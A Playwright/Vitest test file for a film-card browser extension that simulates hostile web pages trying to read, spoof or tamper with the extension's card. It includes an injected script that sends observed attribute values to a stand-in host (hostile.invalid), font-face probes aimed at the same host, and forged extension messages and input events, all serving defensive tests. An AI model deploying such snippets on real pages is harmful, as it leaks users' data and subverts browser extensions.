/**
 * Web pages that mean harm: they learn no more than PRIVACY.md says, change nothing in the library and
 * keep the card from nobody but themselves; nothing of ours fails for it.
 */
import { describe, expect, it } from 'vitest';
import { SUPERSEDED_EVENT } from '../spotter/superseded.ts';
import { findsHeard, recordMessages } from './driver/background.ts';
import { hostileBrowser } from './driver/hostile-browser.ts';
import { gemOn, hostileHtml, hoverGem, tracesOn } from './driver/hostile-page.ts';
import { cardView } from './driver/card-view.ts';

/** Longer than a card takes to open or close. */
const LONG_ENOUGH = 500;

const hostile = hostileBrowser();
const { visit } = hostile;

describe('what the page learns', () => {
  it('is the attribute and the empty host, with the card open too', async () => {
    const { page, asked } = await visit({});
    await hoverGem(hostile.chromium, page);
    expect(await tracesOn(page)).toEqual({
      attributes: ['data-underseen=gem'],
      elements: ['underseen-card 0 null 0'],
      others: [],
    });
    expect(asked.filter((address) => !address.startsWith('https://a.ltrbxd.com/'))).toEqual([]);
  });

  it('is nothing of the card by a custom element of its name, defined before or after', async () => {
    const define = `customElements.define('underseen-card', class extends HTMLElement {
      constructor() { super(); (globalThis.internals ??= []).push(this.attachInternals()); }
    })`;
    for (const harm of [{ head: `<script>${define}</script>` }, {}]) {
      const { page } = await visit(harm);
      const card = await hoverGem(hostile.chromium, page);
      if (!harm.head) await page.evaluate(define);
      expect(await card.text()).toContain('April Snow');
      expect(
        await page.evaluate(() =>
          (globalThis as unknown as { internals: ElementInternals[] }).internals.map((each) =>
            each.shadowRoot ? 'root' : 'null',
          ),
        ),
      ).toEqual(['null']);
    }
  });

  it('is nothing by selecting all, by the selection of a search, or from where the pointer is', async () => {
    const { page } = await visit({});
    const card = await hoverGem(hostile.chromium, page);
    const premise = await card.ask<string>(`root.querySelector('.review__premise').textContent`);
    const { x, y } = await card.boxOf('.review__premise');
    // As a user would mark a line.
    await page.mouse.move(x + 4, y + 6);
    await page.mouse.down();
    await page.mouse.move(x + 200, y + 6, { steps: 4 });
    await page.mouse.up();
    const marked = await page.evaluate(() => String(getSelection()));
    const learnt = await page.evaluate(
      ([words, at]) => {
        // oxlint-disable-next-line typescript/no-deprecated -- Pages still can.
        document.execCommand('selectAll');
        const all = String(getSelection());
        (globalThis as unknown as { find(text: string): boolean }).find(words);
        const found = String(getSelection());
        const caret = document.caretPositionFromPoint(at.x, at.y)?.offsetNode.nodeName;
        const path = document.elementsFromPoint(at.x, at.y)[0]?.localName;
        return { all, found, caret, path, text: document.documentElement.innerText };
      },
      [premise.slice(0, 20), { x: x + 4, y: y + 6 }] as const,
    );
    expect(marked).toBe('');
    expect(learnt.all + learnt.found + learnt.text).not.toContain(premise.slice(0, 12));
    expect(learnt).toMatchObject({ caret: 'HTML', path: 'underseen-card' });
  });

  it('is not a letter of the card by fonts of its own, for whatever family', async () => {
    const families =
      'serif,sans-serif,system-ui,-apple-system,Segoe UI,Roboto,Georgia,P052,Palatino,Noto Serif,Liberation Serif,DejaVu Serif,DejaVu Sans,Iowan Old Style,Times New Roman,Arial,Apple SD Gothic Neo,Batang'.split(
        ',',
      );
    const faces = families.flatMap((family) =>
      [family, `'${family}'`].map(
        (name) =>
          `@font-face { font-family: ${name}; src: url(https://hostile.invalid/font?${encodeURI(family)}); }`,
      ),
    );
    const { page, asked } = await visit({
      head: `<style>${faces.join('')} body { font-family: monospace; }</style>`,
    });
    const card = await hoverGem(hostile.chromium, page);
    // What the keyboard opens is announced beside the card, in a font as well.
    await page.mouse.move(1270, 795);
    await card.waitUntilClosed();
    await page.keyboard.press('Tab');
    await card.until(`root.querySelector('[role=status]').textContent.includes('April Snow')`);
    await page.evaluate(() => document.fonts.ready);
    expect(asked.filter((address) => address.includes('hostile'))).toEqual([]);
  });

  it('is, of a page that reports what it reads, the documented word', async () => {
    const { page, asked } = await visit({
      head: `<script>
        new MutationObserver((records) => {
          for (const { target, attributeName } of records) {
            const value = target.getAttribute(attributeName);
            if (/underseen/.test(attributeName)) fetch('https://hostile.invalid/?' + value).catch(() => 0);
          }
        }).observe(document, { attributes: true, subtree: true });
      </script>`,
    });
    await hoverGem(hostile.chromium, page);
    expect(asked.filter((address) => address.includes('hostile'))).toEqual([
      'https://hostile.invalid/?gem',
    ]);
  });
});

describe('forged', () => {
  it('messages and events are heard by nobody', async () => {
    await recordMessages(hostile.chromium);
    const { page } = await visit({});
    const card = await hoverGem(hostile.chromium, page);
    const heard = (await findsHeard(hostile.chromium)).length;
    const refusals = await page.evaluate(
      async ([superseded, extensionId]) => {
        const said = [
          { type: 'wxt:content-script-started', contentScriptName: 'spotter', messageId: 'x' },
          { type: 'mark', pack: 'korean-hidden-gems', gem: 'april-snow', mark: 'seen', on: true },
          { type: 'marked', pack: 'korean-hidden-gems', gem: 'april-snow', marks: { seen: true } },
          { type: 'ask-again' },
        ];
        const names = [
          'wxt:content-script-started',
          ...['underseen', 'spotter', 'card'].flatMap((name) => [
            `${name}:wxt:content-script-started`,
            `wxt:${name}:content-script-started`,
          ]),
          superseded,
        ];
        for (const message of said) {
          postMessage(message, '*');
          for (const name of [...names, message.type]) {
            for (const target of [document, globalThis, document.documentElement]) {
              const init = { detail: { ...message, contentScriptName: 'spotter' }, bubbles: true };
              target.dispatchEvent(new CustomEvent(name, init));
            }
          }
        }
        globalThis.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));
        globalThis.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }));
        document.dispatchEvent(new Event('fullscreenchange'));
        document.dispatchEvent(new Event('toggle'));
        navigation.dispatchEvent(new Event('currententrychange'));
        const { chrome } = globalThis as unknown as {
          chrome?: { runtime?: { sendMessage(id: string, message: object): Promise<unknown> } };
        };
        const [, mark] = said;
        if (!chrome?.runtime || !mark) return 'no way to say it';
        return chrome.runtime.sendMessage(extensionId, mark).then(String, () => 'refused');
      },
      [SUPERSEDED_EVENT, hostile.chromium.extensionId] as const,
    );
    expect(refusals).toMatch(/^(?:no way to say it|refused)$/);
    await page.waitForTimeout(LONG_ENOUGH);
    expect(await card.isOpen()).toBe(true);
    expect(await findsHeard(hostile.chromium)).toHaveLength(heard);
    expect(await gemOn(page).getAttribute('data-underseen')).toBe('gem');
  });

  it('pointers, keys and clicks neither open the card nor press or close anything', async () => {
    const { page } = await visit({});
    await page.locator('[data-underseen]').waitFor();
    const play = () =>
      page.evaluate(() => {
        document.addEventListener('click', (event) => event.preventDefault());
        const targets = [
          document.querySelector('[data-underseen] a'),
          document.querySelector('[data-underseen]'),
          document.querySelector('underseen-card'),
          document,
        ];
        // On the marker itself, where a finger's tap would open the card.
        const poster = document.querySelector('[data-underseen]')?.getBoundingClientRect();
        const { right = 0, top = 0 } = poster ?? {};
        const how = { bubbles: true, composed: true, cancelable: true };
        const at = { ...how, clientX: right - 5, clientY: top + 5 };
        for (const target of targets) {
          for (const name of ['over', 'enter', 'move', 'down', 'up', 'out', 'leave']) {
            target?.dispatchEvent(new PointerEvent(`pointer${name}`, at));
            target?.dispatchEvent(new MouseEvent(`mouse${name}`, at));
          }
          target?.dispatchEvent(new PointerEvent('click', { ...at, pointerType: 'touch' }));
          target?.dispatchEvent(new MouseEvent('click', at));
          target?.dispatchEvent(new FocusEvent('focusin', at));
          for (const key of ['Enter', ' ', 'Tab', 'Escape']) {
            target?.dispatchEvent(new KeyboardEvent('keydown', { ...at, key }));
            target?.dispatchEvent(new KeyboardEvent('keyup', { ...at, key }));
          }
          if (target instanceof HTMLElement && target.localName === 'underseen-card')
            target.click();
        }
      });
    const card = await cardView(hostile.chromium, page);
    await play();
    await page.waitForTimeout(LONG_ENOUGH);
    expect(await card.isOpen()).toBe(false);
    await hoverGem(hostile.chromium, page);
    await play();
    await page.waitForTimeout(LONG_ENOUGH);
    expect(await card.isOpen()).toBe(true);
    // Once more with the film's own link in focus, as the user's key put it there.
    await page.mouse.move(1270, 795);
    await card.waitUntilClosed();
    await page.keyboard.press('Tab');
    await card.waitUntilOpen();
    await page.keyboard.press('Escape');
    await card.waitUntilClosed();
    // What was dismissed is forgotten where the pointer goes elsewhere.
    await page.locator('[data-item-slug]').nth(5).hover();
    await play();
    await page.waitForTimeout(LONG_ENOUGH);
    expect(await card.isOpen()).toBe(false);
  });

  it('markers show no card, and stay the page’s own', async () => {
    const { page } = await visit({
      body: '<p data-underseen="seen" id="forged"><a href="/x">Nothing</a></p>',
    });
    await gemOn(page).and(page.locator('[data-underseen]')).waitFor();
    await page.evaluate(() => {
      document.querySelector('#forged')?.setAttribute('data-underseen', 'saved');
    });
    const card = await cardView(hostile.chromium, page);
    await page.locator('#forged a').hover();
    await page.waitForTimeout(LONG_ENOUGH);
    expect(await card.isOpen()).toBe(false);
    // What is read and drawn from now on leaves it alone.
    await page.evaluate(() => {
      const film = document.createElement('a');
      film.href = '/film/april-snow/';
      film.append('April Snow');
      document.body.append(film);
    });
    await page.locator('a[data-underseen=gem]').waitFor();
    expect(await page.locator('#forged').getAttribute('data-underseen')).toBe('saved');
  });
});

it('the pages are hostile, and not broken: with nothing added they show the gem', async () => {
  const { page } = await visit({}, hostileHtml({}));
  expect(await (await hoverGem(hostile.chromium, page)).text()).toContain('외출');
});
